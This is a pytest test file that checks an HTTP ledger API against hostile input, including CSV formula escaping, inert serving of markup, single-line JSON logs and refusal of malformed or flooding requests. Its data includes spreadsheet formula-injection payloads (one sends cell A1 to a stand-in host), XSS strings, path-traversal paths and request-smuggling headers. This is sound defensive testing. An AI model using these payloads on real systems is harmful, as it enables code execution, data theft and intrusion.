"""What is hostile in a request or a text field does no harm: not to the server, in a table, or in a log."""

import csv
import gzip
import http.client
import io
import json
import logging
import os
import random
import re
import socket
import tracemalloc
from contextlib import closing, suppress
from pathlib import Path
from typing import Any

import orjson
import pytest

from ledger.api.http.answers import PAGE_POLICY
from ledger.api.state.history import EVENT_BYTES, READING_BYTES
from ledger.api.views.tables import table
from ledger.blocking import Ledger
from ledger.follow.books import Books
from ledger.logs import JsonLines, escaped
from schemas.codec import encode
from schemas.record import Batch
from schemas.values import Source
from schemas.views import Contribution, Estimate, Explanation, Figure
from tests.api.serving import HOST, Got, Served, make_token, process, publish, serving
from tests.log.events import EXCHANGE, released

BODIES = int(os.environ.get("LEDGER_API_BODIES", "20000"))
MARKUP = "<script>alert(1)</script>"
FORMULAS = {
    "a command": "=cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "a plus": "+1+1",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "a function of old": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a tab": "\t=1+1",
    "a return": "\r=1+1",
    "a line break": "\n=1+1",
    "a space before": " =1+1",
    "a full-width sign": "\uff1d1+1",
}
HIDING = {
    "a right-to-left override": "12\u202e34",
    "an isolate": "a\u2066b\u2069",
    "a line separator": "a\u2028b",
    "an escape": "a\x1b[31mb",
    "a control of the second set": "a\x9b31mb",
    "a delete": "a\x7fb",
    "a null": "a\x00b",
    "a line of its own": 'a\n{"level":"info","message":"all is well"}',
}


# -- tables ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_a_cell_is_never_a_formula(text: str) -> None:
    one = Estimate(best=1, low=1, high=1)
    source = Source.model_construct(publisher=text, kind="newspaper", published=None, url=None)
    used = Contribution.model_construct(
        occurrence="x",
        sign=-1,
        count=one,
        event="e",
        rule=text,
        source=source,
        as_stated=text,
        days_held=None,
        left_out=[],
    )
    view = Explanation.model_construct(
        exchange="E", figure="f", value=one, contributions=[used], left_out=[], notes=[text]
    )
    [row] = csv.DictReader(io.StringIO(table(Explanation, [view]).decode(), newline=""))
    assert row["why"] == row["as_stated"] == row["source.publisher"] == row["notes"] == f"'{text}"
    assert row["sign"] == "-1"  # a number is a number


@pytest.mark.parametrize("formula", ["=1+1", "  =1+1", "+1", "-1", "@SUM(1)", "\uff1d1+1"])
def test_no_formula_hides_behind_the_semicolon_of_another_country(formula: str) -> None:
    figure = Figure.model_construct(figure=f"a;{formula}; b", value=Estimate(best=1, low=1, high=1))
    [row] = csv.DictReader(io.StringIO(table(Figure, [figure]).decode(), newline=""))
    cells = [cell.strip() for cell in row["figure"].split(";")]
    assert cells == ["a", f"'{formula.strip()}", "b"]


def test_numbers_and_plain_words_stay_as_they_are() -> None:
    figure = Figure(figure="captives.deal", value=Estimate(best=-3, low=-3, high=None))
    [row] = csv.DictReader(io.StringIO(table(Figure, [figure]).decode()))
    assert row == {
        "figure": "captives.deal",
        "value.best": "-3",
        "value.low": "-3",
        "value.high": "",
        "value.hedged": "false",
        "value.exact": "true",
    }


def test_a_text_that_is_markup_is_data_and_nothing_else(server: Served) -> None:
    hostile = released(1).model_copy(update={"as_stated": f"{MARKUP}, =1+1", "note": '"><img src=x onerror=alert(1)>'})
    publish(server, [hostile])
    for path in ("", "/claims", "/explain/captives.released"):
        for ending in ("", ".csv", ".hxl.csv", ".metadata.json"):
            got = server.get(f"/v1/exchanges/{EXCHANGE}{path}{ending}")
            assert got.status == 200
            harmless(got)
    harmless(server.get("/v1/events"))
    harmless(server.get(f"/v1/exchanges/{MARKUP}"))
    harmless(server.get(f"/{MARKUP}"))


def harmless(got: Got) -> None:
    """A browser takes it for what it is, and runs nothing of it."""
    assert got.headers["content-type"].partition(";")[0] in ("application/json", "text/csv", "application/problem+json")
    assert got.headers["x-content-type-options"] == "nosniff"
    assert got.headers["content-security-policy"].startswith("default-src 'none'")


def test_the_page_runs_its_own_scripts_only_and_nobody_sets_cookies(server: Served) -> None:
    page = server.get("/")
    assert page.headers["content-security-policy"] == PAGE_POLICY
    assert "unsafe" not in PAGE_POLICY
    for path in ("/", "/v1/exchanges", "/v1/openapi.json", "/nothing", "/metrics"):
        got = server.get(path)
        assert "set-cookie" not in got.headers
        assert got.headers["x-content-type-options"] == "nosniff"
        assert got.headers["referrer-policy"] == "no-referrer"


@pytest.mark.parametrize(
    "path", ["/../app.py", "/%2e%2e/app.py", "/..%2fapp.py", "/page/../../settings.py", "//etc/passwd"]
)
def test_no_path_leads_out_of_the_page(server: Served, path: str) -> None:
    assert server.get(path).status == 404


# -- logs ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HIDING.values(), ids=HIDING)
def test_a_log_is_one_line_of_plain_json_whatever_is_in_it(text: str) -> None:
    record = logging.LogRecord("x", logging.INFO, "", 0, "said: %s", (text,), None)
    record.path = text
    line = JsonLines().format(record)
    assert line.isprintable()
    assert json.loads(line)["path"] == text
    assert escaped(line) == line


def test_a_request_cannot_write_lines_of_its_own_or_show_its_token_in_the_log(url: str) -> None:
    with process(url, log="all") as server:
        token = make_token(url, "publish")
        for text in HIDING.values():
            server.get("/v1/exchanges/" + "".join(f"%{byte:02X}" for byte in text.encode()))
        server.publish(b'{"type":"\x1b[31m"}', token)
        logged = server.stop()
    lines = [json.loads(line) for line in logged.splitlines() if line.startswith("{")]
    assert len(lines) == len([line for line in logged.splitlines() if "request" in line])
    assert {line["route"] for line in lines if line["message"] == "request"} >= {"tally", "publish"}
    assert token not in logged
    assert "\x1b" not in logged.replace("\x1b[1m", "").replace("\x1b[0m", "")


# -- requests --------------------------------------------------------------------------------------


def spoiled(chance: random.Random, valid: bytes) -> bytes:
    """A body that is hardly any event: cut, mixed up, repeated, nested, or not text at all."""
    raw = bytearray(valid)
    kind = chance.randrange(9)
    if kind == 0:
        return bytes(raw[: chance.randrange(len(raw))])
    if kind == 1:
        for _ in range(chance.randint(1, 8)):
            raw[chance.randrange(len(raw))] = chance.randrange(256)
    if kind == 2:
        return chance.randbytes(chance.randrange(400))
    if kind == 3:
        return b"[" * chance.randrange(1, 2000)
    if kind == 4:
        return b'{"a":' * chance.randrange(1, 500) + b"1" + b"}" * chance.randrange(500)
    if kind == 5:
        at = chance.randrange(len(raw))
        raw[at:at] = chance.choice([b"NaN", b"1e999", b"\x00", b'"\\ud800"', "\u202e".encode(), b"9" * 50, b"\\u0000"])
    if kind == 6:
        members = orjson.loads(valid)
        members[chance.choice(list(members))] = hostile(chance)
        return orjson.dumps(members)
    if kind == 7:
        return valid[:-1] + b"," + valid[1:]
    if kind == 8:
        return orjson.dumps(hostile(chance))
    return bytes(raw)


def hostile(chance: random.Random) -> Any:
    return chance.choice([None, True, -1, 2**63, 1.5, "", "x" * 3000, MARKUP, [], {}, [[]], {"": 1}, "=1+1", "\ud7ff"])


def test_a_fuzz_of_bodies_ends_in_clear_answers(server: Served, token: str) -> None:
    """LEDGER_API_BODIES sets how many; some 700 a second go through a real connection."""
    seed = int(os.environ.get("LEDGER_API_SEED", random.randrange(2**32)))
    chance = random.Random(seed)
    statuses: dict[int, int] = {}
    with closing(http.client.HTTPConnection(HOST, server.port, timeout=30)) as connection:
        for number in range(BODIES):
            body = spoiled(chance, encode(released(number)))
            connection.request("POST", "/v1/events", body, {"Authorization": f"Bearer {token}"})
            got = connection.getresponse()
            kind, answer = got.headers["content-type"], orjson.loads(got.read())
            statuses[got.status] = statuses.get(got.status, 0) + 1
            assert got.status in (201, 207, 400, 409, 413), (seed, number, body, answer)
            if got.status >= 400:
                assert kind == "application/problem+json", (seed, number, body)
                assert answer["detail"], (seed, number, body)
    assert server.get("/health/ready").status == 200
    assert statuses[400] > BODIES // 2


@pytest.mark.parametrize(
    "raw",
    [
        b"GET / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"GARBAGE\r\n\r\n",
        b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"GET / HTTP/1.1\r\n" + b"X-Many: " + b"a" * 200_000 + b"\r\n\r\n",
        b"POST /v1/events HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n",
        b"GET /v1/exchanges?\xff\xfe HTTP/1.1\r\nHost: localhost\r\n\r\n",
    ],
    ids=["two lengths", "no request", "a long path", "a long header", "a negative length", "a query of bytes"],
)
def test_a_request_that_is_none_ends_in_a_client_error(server: Served, raw: bytes) -> None:
    with socket.create_connection((HOST, server.port), timeout=5) as client:
        try:
            client.sendall(raw)
            answer = client.recv(65536)
        except ConnectionResetError:
            answer = b""
    assert not answer or answer.split()[1][:1] in (b"2", b"4"), answer
    assert server.get("/health/live").status == 200


def test_a_token_file_is_not_served_and_nothing_but_the_page_is(server: Served, token: str) -> None:
    for name in ("ledger.db", "ledger.db.tokens.json", "index.html.bak"):
        assert server.get(f"/{name}").status == 404
    assert Path(f"{server.url.removeprefix('sqlite:///')}.tokens.json").exists()


# -- who asks for too much ---------------------------------------------------------------------------

HEAD = b"GET /health/live HTTP/1.1\r\nHost: localhost\r\n"
CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
ENDLESS = {
    "headers": (HEAD, b"X-Many: " + b"a" * 1000 + b"\r\n"),
    "small headers": (HEAD, b"a:\r\n"),
    "a header": (HEAD + b"X-Long: ", b"a" * 1000),
    "an address": (b"GET /", b"a" * 1000),
    "trailers": (CHUNKED + b"0\r\n", b"X-Many: " + b"a" * 1000 + b"\r\n"),
    "a trailer": (CHUNKED + b"0\r\nX-Long: ", b"a" * 1000),
    "the size of a chunk": (CHUNKED + b"1;", b"a" * 1000),
}
ENDLESS_BYTES = 64 * 2**20


def sent(server: Served, raw: bytes) -> bytes:
    """What a server answers to some bytes, until it closes the connection."""
    answer = b""
    with socket.create_connection((HOST, server.port), timeout=20) as client, suppress(ConnectionError):
        client.sendall(raw)
        while part := client.recv(65536):
            answer += part
    return answer


def turned_away(server: Served, why: str) -> float:
    [line] = re.findall(rf'^ledger_turned_away_total{{why="{why}"}} (.*)$', server.get("/metrics").body.decode(), re.M)
    return float(line)


@pytest.mark.parametrize("what", ENDLESS)
def test_a_head_without_end_ends(server: Served, what: str) -> None:
    first, again = ENDLESS[what]
    block = again * (100_000 // len(again))
    with socket.create_connection((HOST, server.port), timeout=20) as client, pytest.raises(ConnectionError):
        client.sendall(first + block * (ENDLESS_BYTES // len(block)))
    assert turned_away(server, "head-too-large") == 1


def test_a_head_that_is_too_large_is_told_so_and_one_that_is_not_is_read(server: Served) -> None:
    def headed(size: int) -> bytes:
        return HEAD + b"Connection: close\r\nX-Long: " + b"a" * size + b"\r\n\r\n"

    assert sent(server, headed(60_000)).startswith(b"HTTP/1.1 200")
    told = sent(server, headed(85_000)[:82_000])  # no more than is looked at, so that the answer is read
    assert told.startswith(b"HTTP/1.1 431")
    assert b"65,536 bytes" in told
    assert turned_away(server, "head-too-large") == 1


def test_a_body_may_come_in_many_parts(server: Served, token: str) -> None:
    head = f"POST /v1/events HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n"
    line = encode(released(1)) + b"\n"
    parts = b"".join(b"%x\r\n%s\r\n" % (len(line), line) for _ in range(1000))
    answer = sent(server, head.encode() + b"Transfer-Encoding: chunked\r\n\r\n" + parts + b"0\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 201")


def test_requests_that_wait_for_others_on_a_connection_are_few(server: Served) -> None:
    ask = b"GET /v1/stream/events HTTP/1.1\r\nHost: localhost\r\n\r\n"
    with socket.create_connection((HOST, server.port), timeout=20) as client:
        client.sendall(ask * 1000)
        with suppress(ConnectionError):
            while client.recv(65536):
                pass
    assert turned_away(server, "head-too-large") == 1
    while b'ledger_streams{kind="events"} 0.0' not in server.get("/metrics").body:
        pass


@pytest.mark.parametrize(
    ("head", "status"),
    [
        (b"GET /health/live HTTP/1.1\r\n", 400),
        (HEAD + b"Host: localhost\r\n", 400),
        (HEAD, 200),
        (b"GET /health/live HTTP/1.0\r\n", 200),
    ],
)
def test_a_request_names_one_host(server: Served, head: bytes, status: int) -> None:
    assert sent(server, head + b"Connection: close\r\n\r\n").split()[1] == str(status).encode()
    assert turned_away(server, "no-request") == (status == 400)


@pytest.mark.parametrize("coding", ["gzip", "br", "identity, gzip", "", "GZIP"])
def test_a_compressed_body_is_not_unpacked(server: Served, token: str, coding: str) -> None:
    headers = {"Authorization": f"Bearer {token}", "Content-Encoding": coding}
    got = server.ask("POST", "/v1/events", gzip.compress(encode(released(1))), headers)
    assert got.status == 415
    assert got.headers["accept-encoding"] == "identity"
    assert turned_away(server, "wrong-media-type") == 1
    assert (
        server.ask("POST", "/v1/events", encode(released(1)), {**headers, "Content-Encoding": "Identity"}).status == 201
    )


def test_ten_thousand_bad_lines_are_refused_and_kept(server: Served, token: str) -> None:
    body = b"".join(b'{"type":"captives_freed","count":%d}\n' % number for number in range(10_000))
    got = server.publish(body, token)
    assert (got.status, got.json["refused"], len(got.json["results"])) == (400, 10_000, 10_000)
    with Ledger.open(server.url) as ledger:
        assert [each.payload for each in ledger.rejected()] == body.splitlines()
    for too_many in (body + b"x", b"x\n" * 4_000_000, b"\n" * 8_000_000 + b"x"):
        assert server.publish(too_many, token).status == 413


def test_distinct_cuts_take_no_more_memory_than_their_caches_may(url: str) -> None:
    with serving(url, cache_moments=2**20, cache_bytes=2**18) as server:
        publish(server, [released(number) for number in range(20)])
        for number in range(300):
            path = f"/v1/exchanges/{EXCHANGE}?recorded_by=2030-01-01T00:00:00.{number:06}Z"
            assert server.get(path).status == 200
        told = server.get("/metrics").body.decode()
    for cache, most in (("readings", 2**20), ("bodies", 2**18)):
        [held] = re.findall(rf'^ledger_cache_bytes{{cache="{cache}"}} (.*)$', told, re.M)
        assert most / 2 < float(held) <= most


def test_books_take_what_they_are_reckoned_at() -> None:
    rows = [(number, 0, encode(released(number, round=1 + number % 5)), None) for number in range(200)]
    tracemalloc.start()
    try:
        before, _ = tracemalloc.get_traced_memory()
        kept = [Books() for _ in range(20)]
        for books in kept:
            books.take(Batch(0, rows, 199))
            books.tally(EXCHANGE)
            books.rounds(EXCHANGE)
        taken = (tracemalloc.get_traced_memory()[0] - before) / len(kept)
    finally:
        tracemalloc.stop()
    assert taken < READING_BYTES + 200 * EVENT_BYTES < 10 * taken


def test_one_who_publishes_leaves_room_for_others(url: str) -> None:
    token = make_token(url)
    head = f"POST /v1/events HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\nContent-Length: 9\r\n\r\n"
    with serving(url, publishing_each=1) as server:
        with socket.create_connection((HOST, server.port), timeout=20) as slow:
            slow.sendall(head.encode())
            while (got := server.publish(encode(released(1)), token)).status == 201:
                pass
            assert (got.status, got.json["reason"]) == (429, "publishing")
        assert turned_away(server, "publishing") == 1


def test_a_client_that_is_turned_away_is_in_the_log_once_and_in_the_numbers_without_its_address(url: str) -> None:
    with process(url, streams_each=1) as server:
        for _ in range(5):
            assert server.publish(b"{}", "no-token").status == 401
        assert turned_away(server, "unauthenticated") == 5
        assert HOST.encode() not in server.get("/metrics").body
        logged = server.stop()
    told = [json.loads(line) for line in logged.splitlines() if "turned away" in line]
    assert [(each["client"], each["reason"], each["level"]) for each in told] == [(HOST, "unauthenticated", "warning")]


# -- pages of others ---------------------------------------------------------------------------------


def preflight(server: Served, path: str, method: str = "GET") -> Got:
    headers = {"Origin": "https://other.example", "Access-Control-Request-Method": method}
    return server.ask("OPTIONS", path, headers={**headers, "Access-Control-Request-Headers": "if-none-match"})


def test_a_page_of_another_site_may_ask_what_everybody_may_read_and_nothing_else(url: str) -> None:
    with process(url, proxy="127.0.0.1") as server:
        for path in ("/v1/exchanges", f"/v1/exchanges/{EXCHANGE}/rounds", "/v1/events", "/v1/stream/tallies"):
            got = preflight(server, path)
            assert (got.status, got.headers["access-control-allow-origin"]) == (204, "*")
            assert got.headers["access-control-allow-methods"] == "GET, HEAD"
            assert "authorization" not in got.headers["access-control-allow-headers"].lower()
            assert "access-control-allow-credentials" not in got.headers
        for path, method in (("/v1/events", "POST"), ("/v1/rejected", "GET"), ("/nothing", "GET"), ("/", "GET")):
            refused = preflight(server, path, method)
            assert refused.status in (404, 405)
            assert not [name for name in refused.headers if name.startswith("access-control-allow")]


@pytest.mark.parametrize("settings", [{}, {"proxy": "127.0.0.1", "read": "token"}])
def test_no_page_of_another_site_may_ask_where_reading_is_not_for_everybody(url: str, settings: dict[str, str]) -> None:
    with process(url, **settings) as server:
        assert preflight(server, "/v1/exchanges").status == 405
